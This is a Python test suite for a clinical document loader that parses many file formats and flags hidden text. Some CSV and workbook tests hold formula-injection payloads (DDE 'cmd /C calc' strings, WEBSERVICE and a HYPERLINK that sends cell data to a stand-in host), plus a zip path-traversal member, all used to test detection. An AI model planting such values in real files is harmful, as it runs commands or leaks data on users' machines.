"""Every format: spans are true to the text, what is not seen is pointed out, and facts of the file are taken over."""

import codecs
import io
import json
import zipfile
from collections.abc import Callable
from typing import Any

import docx
import pytest
from docx.oxml.ns import qn
from hypothesis import given
from hypothesis import strategies as st

from rag.documents.load import FORMATS, read_each, read_file
from rag.documents.load.encoding import encoding_of
from rag.documents.load.guard import safe_path
from rag.documents.load.office.formulas import cell_finding, formula_finding
from rag.documents.load.office.sheets import shown
from rag.documents.load.web.css import Seen, colour_of
from rag.documents.workspace import Project
from rag.errors import FileProblem
from rag.rules import rules
from rag.values import Document, File
from tests.made_files import (
    CCDA,
    COMPOSITION,
    CSV,
    HTML,
    NOTE,
    RESOURCES,
    RTF,
    base64_of,
    bundle,
    loinc,
    reference,
    word,
    workbook,
    zipped,
)

MakePdf = Callable[..., bytes]


def whole(make_pdf: MakePdf) -> dict[str, File]:
    """A file of every kind, by the name of its format."""
    return {
        "text": File("note.txt", NOTE.encode()),
        "markdown": File("note.md", b"# Progress note\n\n## Plan\n\nSee <!-- a comment --> the patient.\n"),
        "pdf": File("note.pdf", make_pdf([NOTE.split("\n")])),
        "word": File("note.docx", word()),
        "html": File("note.html", HTML.encode()),
        "rtf": File("note.rtf", RTF.encode("latin-1")),
        "table": File("drugs.csv", CSV.encode()),
        "workbook": File("drugs.xlsx", workbook()),
        "json": File("notes.jsonl", (json.dumps({"id": "n1", "text": NOTE}) + "\n").encode() * 2),
        "fhir": File("notes.fhir", bundle(*RESOURCES)),
        "ccda": File("note.xml", CCDA.encode()),
        "archive": File("all.zip", zipped({"a/note.txt": NOTE, "note.html": HTML, "inner.zip": zipped({"x.rtf": RTF})})),
    }


def one(name: str, data: str | bytes) -> Document:
    found = read_file(File(name, data.encode() if isinstance(data, str) else data))
    assert len(found) == 1
    return found[0]


def aside_texts(document: Document, kind: str) -> list[str]:
    return [aside.text for aside in document.asides if aside.kind == kind]


def hidden(document: Document) -> list[str]:
    """What is marked as not seen, in the text and beside it."""
    return [
        (document.text if found.aside is None else document.asides[found.aside].text)[found.start : found.end].strip()
        for found in document.hidden
        if found.kind == "hidden"
    ]


@pytest.mark.parametrize("kind", FORMATS)
def test_spans_of_every_format_lie_in_its_text_and_the_same_bytes_read_the_same(kind: str, make_pdf: MakePdf) -> None:
    file = whole(make_pdf)[kind]
    found = read_file(file)
    assert found and found == read_file(file)
    assert len({document.name for document in found}) == len(found)
    for document in found:
        text = document.text
        assert text.strip() and "\r" not in text and "\0" not in text
        assert text == text.encode("utf-8").decode()
        for section in document.sections:
            assert 0 <= section.start <= section.body <= section.end <= len(text)
            assert text[section.start : section.body].strip("# :\n").startswith(section.title.strip("# :"))
        for aside in document.asides:
            assert 0 <= aside.at <= len(text) and aside.text.strip() and aside.kind
        for finding in document.hidden:
            within = text if finding.aside is None else document.asides[finding.aside].text
            assert 0 <= finding.start < finding.end <= len(within)
            assert finding.type and finding.rule and 0 < finding.score <= 1
        for moment in (*document.moments, *document.assertions):
            assert 0 <= moment.start < moment.end <= len(text)


@pytest.mark.parametrize(
    ("kind", "titles"),
    [
        ("text", ["PROGRESS NOTE", "ASSESSMENT", "PLAN"]),
        ("word", ["Progress note", "Assessment", "Plan"]),
        ("html", ["Progress note", "Assessment", "Plan"]),
        ("ccda", ["Progress note", "Assessment", "Inner", "Plan"]),
        ("rtf", ["PROGRESS NOTE", "ASSESSMENT", "PLAN"]),
        ("workbook", ["Drugs", "Wards", "Secret"]),
    ],
)
def test_headings_of_the_file_become_sections(kind: str, titles: list[str], make_pdf: MakePdf) -> None:
    (document,) = read_file(whole(make_pdf)[kind])
    found = [section.title for section in document.sections]
    assert [title for title in found if title in titles] == titles


@pytest.mark.parametrize("kind", ["text", "word", "html", "rtf", "ccda"])
def test_the_pseudonym_of_the_patient_is_read_in_every_kind_of_note(kind: str, make_pdf: MakePdf) -> None:
    assert [document.patient for document in read_file(whole(make_pdf)[kind])] == ["P-9001"]


def test_word_keeps_order_numbers_lists_and_puts_rows_on_lines() -> None:
    document = one("note.docx", word())
    assert document.title == "Progress note"
    plan = document.text[document.text.index("Plan") :]
    assert plan == (
        "Plan\n1. Begin torsemide\n2. See the patient\n\n"
        "Drug: Torsemide; Dose: 40 mg; When: daily\nDrug: Apixaban; Dose: 5 mg; When: twice\n"
    )


def test_word_marks_what_is_not_seen_and_puts_the_rest_beside() -> None:
    document = one("note.docx", word())
    assert hidden(document) == ["vanished words", "white words", "tiny words"]
    assert "vanished words white words tiny words" in document.text
    assert aside_texts(document, "deleted") == ["deleted words"]
    assert aside_texts(document, "comment") == ["A comment on the cough"]
    assert aside_texts(document, "header") == ["The invented hospital"]
    assert aside_texts(document, "footer") == ["For the file"]
    assert "author: Invented Author" in aside_texts(document, "metadata")
    assert "deleted words" not in document.text


def test_white_text_on_a_shaded_cell_is_seen() -> None:
    made: Any = docx.Document()
    cell = made.add_table(rows=1, cols=2).rows[0].cells[0]
    run = cell.paragraphs[0].add_run("white on blue")
    run.font.color.rgb = docx.shared.RGBColor(255, 255, 255)
    shade = docx.oxml.OxmlElement("w:shd")
    shade.set(qn("w:fill"), "1F4E79")
    cell._tc.get_or_add_tcPr().append(shade)
    target = io.BytesIO()
    made.save(target)
    document = one("a.docx", target.getvalue())
    assert document.text == "white on blue\n" and document.hidden == ()


def test_word_fetches_nothing_from_elsewhere_and_says_so() -> None:
    made: Any = docx.Document()
    made.add_paragraph("The cough is better.")
    made.part.relate_to("http://invented.example/template.dotm", "http://x/attachedTemplate", is_external=True)
    target = io.BytesIO()
    made.save(target)
    document = one("a.docx", target.getvalue())
    assert aside_texts(document, "link") == ["http://invented.example/template.dotm"]
    assert "1 parts outside of the file not fetched" in document.changes


def test_html_shows_what_a_browser_shows() -> None:
    document = one("note.html", HTML)
    for seen in ("The cough is better.", "light words on dark", "1. Begin torsemide\n2. See the patient", "after that"):
        assert seen in document.text
    assert document.text.count("Drug: Torsemide; Dose: ") == 2
    assert sorted(hidden(document)) == ["attribute words", "far words", "gone words", "tiny words", "white words"]
    assert [words for words in hidden(document) if words in document.text] == []
    assert aside_texts(document, "comment") == ["a comment for the reader"]
    assert aside_texts(document, "link") == ["https://invented.example/a"]
    assert aside_texts(document, "attribute") == ["title: press here for more words"]
    assert "description: what the head says" in aside_texts(document, "metadata")
    assert "script words" not in str(document)
    assert {"1 scripts left out", "1 fixed blanks written as blanks"} <= set(document.changes)


@pytest.mark.parametrize(
    "style",
    [
        "display:none",
        "DISPLAY : NONE !important",
        "visibility:hidden",
        "opacity:0",
        "font-size:0",
        "font-size:1px",
        "color:white",
        "color:#fefefe",
        "color:rgb(255,255,255)",
        "color:rgba(0,0,0,0)",
        "color:transparent",
        "background:#222;color:#222",
        "position:absolute;left:-5000px",
        "position:fixed;top:-200em",
        "text-indent:-9999px",
        "clip:rect(0,0,0,0)",
        "height:0;overflow:hidden",
        "transform:scale(0)",
    ],
)
def test_every_way_to_hide_text_in_html_is_found_by_attribute_and_by_rule(style: str) -> None:
    for page in (
        f'<html><body><p>seen</p><p style="{style}">unseen words</p></body></html>',
        f"<html><style>div p.x, h6 {{ {style} }}</style><p>seen</p><div><p class=x>unseen words</p></div></html>",
    ):
        document = one("a.html", page)
        assert hidden(document) == ["unseen words"], page
        assert document.text == "seen\n"


@pytest.mark.parametrize(
    "page",
    [
        "<p style='color:white;background:#003'>words</p>",
        "<div style='background:url(a.png)'><p style='color:#fff'>words</p></div>",
        "<p style='font-size:0.9em;opacity:0.5;display:block'>words</p>",
        "<style>@media print {p {display:none}} p.other {display:none}</style><p>words</p>",
        "<div style='visibility:hidden'><p style='visibility:visible'>words</p></div>",
        "<p style='position:relative;left:-5000px;left:2px'>words</p>",
    ],
)
def test_html_that_is_shown_is_not_called_hidden(page: str) -> None:
    document = one("a.html", f"<html><body>{page}</body></html>")
    assert (document.text, document.hidden) == ("words\n", ())


def test_a_page_in_its_declared_encoding_is_read_in_it() -> None:
    page = '<html><head><meta charset="shift_jis"></head><body><p>患者 30°</p></body></html>'
    assert one("a.html", page.encode("shift_jis")).text == "患者 30°\n"


def test_rtf_marks_what_is_not_seen_and_puts_the_rest_beside() -> None:
    document = one("note.rtf", RTF)
    assert hidden(document) == ["vanished words", "white words", "tiny words"]
    assert "The cough is bétter." in document.text
    assert "Drug | Dose\nTorsemide | 40 mg\n" in document.text
    assert aside_texts(document, "header") == ["The invented hospital"]
    assert aside_texts(document, "deleted") == ["deleted words"]
    assert aside_texts(document, "metadata") == ["title: Progress note", "author: Invented Author"]


@pytest.mark.parametrize(
    "data", [RTF.encode() + b"", RTF.replace(r"\'e9", "é").encode("latin-1"), RTF.replace(r"\'e9", "é").encode()]
)
def test_rtf_may_hold_letters_that_are_not_ascii(data: bytes) -> None:
    assert "bétter" in one("note.rtf", data).text


def test_rtf_of_wide_letters_and_binary_pictures() -> None:
    data = rb"{\rtf1\ansi\uc1 heart \u-10179?\u-8704? {\pict\bin6 }}{{\x} beats.\par}"
    assert one("a.rtf", data).text == "heart 😀 beats.\n"


def test_a_workbook_reads_as_its_sheets_show() -> None:
    document = one("drugs.xlsx", workbook())
    assert "drug: Torsemide; tier: 2; since: 2024-03-14; price: 1,234.50\n" in document.text
    assert "drug: Apixaban; tier: 25%; since: 2024-03-16; price: 3\n" in document.text
    assert "ward: North; bed: 1\nward: North; bed: 2\nward: South; bed: 3\n" in document.text
    assert aside_texts(document, "comment") == ["A2: A comment on torsemide"]
    assert aside_texts(document, "formula") == [
        'Drugs!F6: =HYPERLINK("http://invented.example/?"&A1,"see")',
        "Drugs!F7: =SUM(B2:B4)",
    ]
    assert "creator: Invented Author" in aside_texts(document, "metadata")


def test_a_workbook_marks_hidden_rows_columns_sheets_and_white_cells() -> None:
    document = one("drugs.xlsx", workbook())
    told = {finding.type for finding in document.hidden}
    assert {"hidden row", "hidden column", "hidden sheet", "text in the colour of its ground", "spreadsheet formula"} <= told
    assert any("hidden drug" in words for words in hidden(document))
    assert "white drug" in hidden(document)
    assert any("what nobody sees" in words for words in hidden(document))
    assert not any("Torsemide" in words for words in hidden(document))
    (formula,) = [finding for finding in document.hidden if finding.kind == "instruction"]
    assert formula.aside is not None and "HYPERLINK" in document.asides[formula.aside].text


@pytest.mark.parametrize(
    ("value", "form", "expected"),
    [
        (0.1 + 0.2, "General", "0.3"),
        (5, "General", "5"),
        (1234567.891, "#,##0.0", "1,234,567.9"),
        (0.256, "0.0%", "25.6%"),
        (True, "General", "TRUE"),
        (7, '0.00" mg"', "7.00"),
        (10**400, "0.00", str(10**400)[:400]),
    ],
)
def test_numbers_read_as_the_sheet_shows_them(value: Any, form: str, expected: str) -> None:
    assert shown(value, form) == expected


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://x")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+SUM(A1)",
        '-WEBSERVICE("http://x")',
        "=1+cmd(1)"[:0] + "=IMPORTXML(A1)",
    ],
)
def test_values_of_a_csv_that_would_run_are_instructions(value: str) -> None:
    found = cell_finding(value)
    assert found and found.kind == "instruction" and found.score >= 0.6
    document = one("a.csv", f'drug,note\nTorsemide,"{value.replace(chr(34), chr(34) * 2)}"\n')
    assert [document.text[one.start : one.end] for one in document.hidden] == [value]


@pytest.mark.parametrize("value", ["+", "-2 mg (less)", "= 5", "+ANA(1:80)", "-", "@home", "+1 (555)", "=", "a=SUM(1)"])
def test_values_of_a_csv_that_a_clinician_writes_are_none(value: str) -> None:
    assert cell_finding(value) is None


def test_formulas_inside_of_the_sheet_are_no_finding() -> None:
    assert formula_finding("=SUM(B2:B4)/COUNT(B2:B4)") is None
    assert formula_finding('=WEBSERVICE("http://x")') is not None


def test_json_lines_are_a_document_each_with_their_own_facts() -> None:
    row = {"id": "n7", "text": "FINDINGS:\r\nNone.", "title": "CT", "date": "2024-03-14", "type": "radiology", "patient": "P-1"}
    document = one("notes.jsonl", json.dumps({**row, "ward": "North", "n": 5}))
    assert (document.name, document.text, document.title) == ("n7", "FINDINGS:\nNone.", "CT")
    assert (document.date, document.type, document.patient) == ("2024-03-14", "radiology", "P-1")
    assert aside_texts(document, "metadata") == ["ward: North"]


@pytest.mark.parametrize(("field", "title"), [("section", "PASTMEDICALHX"), ("section_header", "Past Medical History:")])
def test_a_json_line_that_is_a_section_of_a_note_has_what_that_section_says(field: str, title: str) -> None:
    document = one("notes.jsonl", json.dumps({"id": "n", "text": "Gout. No stroke.\nMEDICATIONS:\nNaproxen.", field: title}))
    assert next((found.title, found.start, found.end) for found in document.sections) == (title, 0, 17)
    past = [document.text[found.start : found.end].strip() for found in document.assertions if found.status == "historical"]
    assert past == ["Gout."], "what is denied there is not past"
    assert document.path_at(0) == (title,) and title not in document.text


@pytest.mark.parametrize("said", ["B12", "Plan (for Qworla Vexby)", 7, ["PLAN"], ""])
def test_a_field_that_names_no_known_section_gives_none(said: Any) -> None:
    assert one("notes.jsonl", json.dumps({"id": "n", "text": "Gout.", "section": said})).sections == ()


def test_json_lines_that_cannot_be_read_are_named_and_the_others_go_on() -> None:
    lines = [
        '{"id": "a", "text": "Note one."}',
        "{broken",
        '{"id": "a", "text": "Note two."}',
        '{"id": 3}',
        '{"text": "Note 3."}',
    ]
    failed: list[FileProblem] = []
    found = read_file(File("n.jsonl", "\n".join(lines).encode()), failed)
    assert [document.name for document in found] == ["a", "a (2)", "n-00005"]
    assert [str(problem).split(":")[0] for problem in failed] == ["n.jsonl, line 2", "n.jsonl, line 4"]


def test_lists_of_objects_and_any_other_json_are_read() -> None:
    assert [one.text for one in read_file(File("a.json", b'[{"text": "One."}, {"text": "Two."}]'))] == ["One.", "Two."]
    assert one("a.json", '{"drug": {"name": "Torsemide", "doses": [20, 40]}}').text == (
        "drug.name: Torsemide\ndrug.doses: 20\ndrug.doses: 40\n"
    )


def fhir_documents() -> dict[str, Document]:
    return {document.name.partition("/")[2]: document for document in read_file(File("b.json", bundle(*RESOURCES)))}


def test_a_bundle_gives_its_notes_reports_and_records() -> None:
    assert list(fhir_documents()) == ["Composition-c1", "DiagnosticReport-dr1", "DocumentReference-d1", "records-P-9001"]


def test_a_composition_reads_by_sections_with_type_date_author_and_patient() -> None:
    found = fhir_documents()["Composition-c1"]
    assert (found.type, found.date, found.patient, found.author) == ("discharge", "2024-03-14", "P-9001", "Cardiologist")
    assert [(section.title, section.level) for section in found.sections] == [
        ("Discharge summary", 1),
        ("Hospital course", 2),
        ("Problems", 2),
    ]
    assert "Test: Sodium; Value: 138\n" in found.text
    assert "Heart failure: refuted\n" in found.text
    assert hidden(found) == ["gone words"]
    assert "section code: LOINC 8648-8" in aside_texts(found, "metadata")


def test_resources_of_a_bundle_are_a_line_each_and_people_stand_beside() -> None:
    found = fhir_documents()["records-P-9001"]
    assert found.text == (
        "Allergies\nPenicillin: reaction: hives severe\n\nMedications\nTorsemide 40 mg: one tablet daily; active\n\n"
        "Observations\nHemoglobin: 10.2 g/dL (low) [reference ≥ 12 g/dL]; 2024-03-13; final\n"
    )
    assert aside_texts(found, "metadata") == ["Patient: family name: Person; given name: Invented"]
    assert "Invented" not in found.text


@pytest.mark.parametrize(
    ("kind", "data"),
    [
        ("text/plain", NOTE),
        ("text/plain; charset=utf-8", NOTE),
        ("text/html", HTML),
        ("application/rtf", RTF),
        ("application/xml", CCDA),
        ("application/pdf", ""),
    ],
)
def test_attachments_are_read_by_their_content_type(kind: str, data: str, make_pdf: MakePdf) -> None:
    content = make_pdf([["The cough is better."]]) if kind == "application/pdf" else data
    resource = reference(content, kind, date="2024-03-10T00:00:00Z")
    document = one("d.json", json.dumps(resource))
    assert "The cough is" in document.text
    assert (document.name, document.format, document.type, document.date) == ("d.json", "fhir", "note", "2024-03-10")
    assert document.patient == "P-9001"


def test_a_patient_who_is_not_a_pseudonym_is_not_taken_over() -> None:
    resource = reference("The cough is better.", subject={"reference": "Patient/8f14e45f-ceea-467f-a8e7-0c1d2e3f4a5b"})
    assert one("d.json", json.dumps(resource)).patient == ""


def test_a_resource_that_is_not_valid_is_read_and_its_fault_named_by_its_path() -> None:
    resource = {"resourceType": "Observation", "code": {"text": "Sodium", "Quillemont": 5}, "valueString": "138"}
    document = one("o.json", json.dumps(resource))
    assert document.text == "Observations\nSodium: 138\n"
    assert len(document.warnings) == 1 and "Observation" in document.warnings[0]
    assert "138" not in document.warnings[0]


def test_fhir_in_xml_reads_like_its_json() -> None:
    written = (
        '<Observation xmlns="http://hl7.org/fhir"><status value="final"/><code><text value="Sodium"/></code>'
        '<valueQuantity><value value="138"/><unit value="mmol/L"/></valueQuantity></Observation>'
    )
    assert one("o.xml", written).text == "Observations\nSodium: 138 mmol/L; final\n"


def test_a_ccda_reads_by_sections_with_codes_type_date_author_and_patient() -> None:
    found = one("note.xml", CCDA)
    assert (found.type, found.date, found.patient, found.author) == ("note", "2024-03-14", "P-9001", "Cardiologist")
    assert [(section.title, section.level) for section in found.sections] == [
        ("Progress note", 1),
        ("Assessment", 2),
        ("Inner", 3),
        ("Plan", 2),
    ]
    assert "1. Begin torsemide\n2. See the patient\n\nDrug: Torsemide; Dose: 40 mg\n" in found.text
    assert "section code: LOINC 51848-0 Assessment" in aside_texts(found, "metadata")
    assert aside_texts(found, "comment") == ["a comment"]
    assert "Person" not in found.text and any("Person" in text for text in aside_texts(found, "metadata"))


@pytest.mark.parametrize("name", ["part.xml", "part.ccd", "part.hl7"])
def test_a_part_of_a_ccda_is_read_though_it_declares_no_prefix_and_has_no_header(name: str) -> None:
    part = (
        '<section><code code="10160-0" codeSystem="2.16.840.1.113883.6.1"/><title>Drugs</title><text>Peritol at noon</text>'
        '<entry><observation><value xsi:type="CD" code="1" codeSystem="2.16.840.1.113883.6.96"/></observation></entry></section>'
    )
    if name.endswith("hl7"):
        part = CCDA
    found = one(name, part)
    assert found.format == "ccda" and ("Peritol at noon" in found.text or found.warnings)


def test_a_ccda_around_a_file_is_read_by_that_file() -> None:
    body = f'<nonXMLBody><text mediaType="text/rtf" representation="B64">{base64_of(RTF)}</text></nonXMLBody>'
    found = one("note.xml", CCDA[: CCDA.index("<structuredBody>")] + body + "</component></ClinicalDocument>")
    assert "The cough is bétter." in found.text
    assert (found.format, found.type, found.date) == ("ccda", "note", "2024-03-14")


@pytest.mark.parametrize("rule", rules("loinc")["types"], ids=lambda rule: rule["code"])
def test_the_code_of_a_document_gives_its_type(rule: dict[str, str]) -> None:
    assert rule["example"] == f"{rule['code']} {rule['name']}"
    resource = reference("It rained.", type=loinc(rule["code"]))
    assert one("d.json", json.dumps(resource)).type == rule["type"]


def test_an_archive_gives_its_members_by_path_and_names_those_that_fail() -> None:
    inner = zipped({"deep.txt": "A deep note."})
    members: dict[str, str | bytes] = {
        "a/note.txt": NOTE,
        "../../out.txt": "A note from above.",
        "empty.txt": b"",
        "picture.png": b"\x89PNG",
        "inner.zip": inner,
        "__MACOSX/._note.txt": b"x",
    }
    failed: list[FileProblem] = []
    found = read_file(File("all.zip", zipped(members)), failed)
    assert [document.name for document in found] == ["all.zip/a/note.txt", "all.zip/out.txt", "all.zip/inner.zip/deep.txt"]
    assert "leads out" in found[1].warnings[0]
    assert [str(problem).split(":")[0] for problem in failed] == ["all.zip/empty.txt", "all.zip/picture.png"]
    with pytest.raises(FileProblem, match=r"^all\.zip/empty\.txt: "):
        read_file(File("all.zip", zipped(members)))


def test_each_member_of_an_archive_is_kept_as_a_file_of_its_own(project: Project, make_pdf: MakePdf) -> None:
    pdf = make_pdf([["The cough is better."]])
    failed: list[FileProblem] = []
    added = project.shelf.add(File("all.zip", zipped({"a.pdf": pdf, "b.txt": "The cough is worse.", "c.txt": b""})), failed)
    assert [document.name for document in added] == ["all.zip/a.pdf", "all.zip/b.txt"]
    assert len(failed) == 1
    assert project.shelf.original("all.zip/a.pdf") == pdf
    again = project.shelf.add(File("all.zip", zipped({"a.pdf": pdf})), failed)
    assert "already here" in again[0].warnings[0]


def test_without_a_list_for_what_fails_nothing_of_an_archive_is_kept(project: Project) -> None:
    with pytest.raises(FileProblem):
        project.shelf.add(File("all.zip", zipped({"a.txt": "A note.", "b.txt": b""})))
    assert project.shelf.entries == ()


def test_each_document_comes_with_the_file_that_it_stands_in() -> None:
    (pair,) = read_each(File("all.zip", zipped({"inner.zip": zipped({"deep.txt": "A deep note."})})))
    assert pair[0] == File("all.zip/inner.zip/deep.txt", b"A deep note.")


@pytest.mark.parametrize(
    ("name", "data", "actual"),
    [
        ("a.txt", RTF.encode(), "rtf"),
        ("a.txt", HTML.encode(), "html"),
        ("a.csv", None, "workbook"),
        ("a.zip", None, "word"),
        ("a.html", CCDA.encode(), "ccda"),
        ("a.txt", bundle(*RESOURCES[:1]), "fhir"),
    ],
)
def test_a_file_whose_content_leaves_no_doubt_is_read_by_it_with_a_warning(name: str, data: bytes | None, actual: str) -> None:
    content = data or (word() if actual == "word" else workbook())
    document = one(name, content)
    assert document.format == actual
    assert any(f"named {name[1:]}" in warning for warning in document.warnings)


TEXTS = {
    "cp1252": "The patient’s temperature was 38.5 °C; café-au-lait spots, 5 µg daily.",
    "mac_roman": "The patient’s temperature was 38.5 °C; café-au-lait spots, 5 µg daily.",
    "cp1250": "Pacjent przyjęty z powodu duszności. Ciśnienie tętnicze prawidłowe, wypisany do domu.",
    "cp1251": "Пациент поступил с одышкой. Давление в норме, выписан домой.",
    "shift_jis": "患者は発熱と咳嗽のため入院した。胸部X線で肺炎を認め、抗菌薬を開始した。",
    "gb18030": "患者因发热咳嗽入院。胸部影像显示肺炎，给予抗生素治疗后好转。",
    "big5": "患者因發熱咳嗽入院。胸部影像顯示肺炎，給予抗生素治療後好轉。",
    "latin-1": "Le patient présente une dyspnée. Créatinine élevée, réévaluation prévue.",
}


@pytest.mark.parametrize("encoding", TEXTS)
def test_text_in_any_common_encoding_is_read_and_the_guess_named(encoding: str) -> None:
    document = one("a.txt", TEXTS[encoding].encode(encoding))
    assert document.text == TEXTS[encoding]
    assert "not valid UTF-8" in document.warnings[0] and "read as" in document.warnings[0]


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"]
)
def test_unicode_with_and_without_a_mark_is_read_without_a_warning(encoding: str) -> None:
    document = one("a.txt", "Temperature 38.5 °C, café.".encode(encoding))
    assert (document.text, document.warnings) == ("Temperature 38.5 °C, café.", ())


@given(st.binary(max_size=300))
def test_any_bytes_have_an_encoding_that_can_be_looked_up(data: bytes) -> None:
    name, _ = encoding_of(data)
    codecs.lookup(name)
    data.decode(name, "replace")


def test_zero_width_letters_stay_in_the_text_for_the_screen() -> None:
    assert one("a.html", "<html><p>co\u200bugh\u2060</p></html>").text == "co\u200bugh\u2060\n"


def test_letters_are_composed_and_that_is_told() -> None:
    document = one("a.html", "<html><p>cafe\u0301</p></html>")
    assert document.text == "café\n" and document.changes == ("1 letters composed (Unicode NFC)",)


@given(st.text(max_size=80))
def test_no_path_in_an_archive_leads_out_of_it(path: str) -> None:
    parts = safe_path(path).split("/")
    assert ".." not in parts and not safe_path(path).startswith("/") and "\\" not in safe_path(path)


@given(st.text(st.sampled_from("<>/pdivstyletablr =\"':;#!-&0a1"), max_size=120))
def test_any_markup_gives_a_document_or_a_named_error(body: str) -> None:
    try:
        document = one("a.html", f"<html><body>seen {body}</body></html>")
    except FileProblem:
        return
    assert all(aside.at <= len(document.text) for aside in document.asides)


@given(st.text(st.sampled_from("\\{}v0 cfs1u-'e9parb;"), max_size=120))
def test_any_rtf_gives_a_document_or_a_named_error(body: str) -> None:
    try:
        document = one("a.rtf", "{\\rtf1 seen " + body + "}")
    except FileProblem:
        return
    assert not any("\ue000" <= letter <= "\ue012" for letter in document.text)


@pytest.mark.parametrize("written", ["#fff", "white", "rgb(255, 255, 255)", "#FFFFFF", "rgb(100%,100%,100%)"])
def test_white_is_white_however_it_is_written(written: str) -> None:
    assert colour_of(written) == ((255, 255, 255), False)
    assert Seen(colour=colour_of(written)[0]).reason


def test_a_stored_zip_reads_like_a_packed_one() -> None:
    assert one("a.zip", zipped({"a.txt": "A note."}, zipfile.ZIP_STORED)).text == "A note."


@pytest.mark.parametrize(
    ("resource", "status"),
    [
        ({"resourceType": "DiagnosticReport", "id": "r", "status": code, "conclusion": "No nodule."}, status)
        for code, status in (
            ("final", "final"),
            ("partial", "preliminary"),
            ("appended", "amended"),
            ("entered-in-error", "entered in error"),
            ("unknown", ""),
        )
    ]
    + [
        (reference(NOTE, docStatus="preliminary"), "preliminary"),
        (reference(NOTE, docStatus="final", status="superseded"), "superseded"),
        (reference(NOTE, docStatus="entered-in-error", status="current"), "entered in error"),
        (reference(NOTE, status="superseded"), "superseded"),
        (reference(NOTE), ""),
        (reference("Status: DRAFT\nNo nodule."), "draft"),
        (reference("Status: DRAFT\nNo nodule.", docStatus="final"), "final"),
        ({**COMPOSITION, "status": "amended"}, "amended"),
    ],
)
def test_the_status_of_a_report_is_that_of_its_resource_or_else_of_its_text(resource: dict[str, Any], status: str) -> None:
    assert one("r.json", json.dumps(resource)).status == status


@pytest.mark.parametrize(
    ("header", "status"),
    [
        ("", ""),
        ('<statusCode xmlns="urn:hl7-org:sdtc" code="completed"/>', "final"),
        ('<statusCode xmlns="urn:hl7-org:sdtc" code="active"/>', "draft"),
        ('<legalAuthenticator><signatureCode code="S"/></legalAuthenticator>', "final"),
        ('<relatedDocument typeCode="RPLC"><parentDocument/></relatedDocument>', "amended"),
        ('<relatedDocument typeCode="XFRM"><parentDocument/></relatedDocument>', ""),
    ],
)
def test_the_status_of_a_ccda_is_read_from_its_header(header: str, status: str) -> None:
    assert one("note.xml", CCDA.replace("<author>", f"{header}<author>")).status == status


@pytest.mark.parametrize(
    ("name", "data", "status"),
    [
        ("ct.txt", "CT CHEST\nReport status: Preliminary\nNo nodule.", "preliminary"),
        ("ct.txt", "CT CHEST\n*** AMENDED REPORT ***\nNo nodule.", "amended"),
        ("ct.md", "# CT chest\n\n**Status:** FINAL\n\nNo nodule.", "final"),
        ("ct.html", "<h1>Addendum</h1><p>No nodule.</p>", "amended"),
        ("ct.html", "<table><tr><td>Status</td><td>Final</td></tr><tr><td>Test</td><td>CT</td></tr></table>", "final"),
        ("ct.txt", "CT CHEST\nCode status: full\nMargin status: final\nNo nodule.", ""),
        ("orders.csv", "status,order\nfinal,CT\n", ""),
        ("ct.json", '{"text": "No nodule.", "status": "entered-in-error"}', "entered in error"),
        ("ct.json", '{"text": "No nodule.", "status": "Addendum"}', "amended"),
        ("ct.json", '{"text": "No nodule.", "status": "green"}', ""),
    ],
)
def test_the_status_of_a_report_is_read_from_a_line_or_a_title(name: str, data: str, status: str) -> None:
    assert one(name, data).status == status


def test_an_entry_about_another_patient_goes_into_the_records_of_that_patient() -> None:
    other = {"resourceType": "Condition", "id": "k2", "code": {"text": "Cough"}, "subject": {"reference": "Patient/P-9002"}}
    linked = {**COMPOSITION, "section": [{"title": "Problems", "entry": [{"reference": "Condition/k2"}]}]}
    report, records = read_file(File("b.json", bundle(linked, other)))
    assert "Cough" not in report.text and report.patient == "P-9001"
    assert "1 entries about another patient left out" in report.changes
    assert records.text == "Problems\nCough\n" and records.patient == "P-9002"
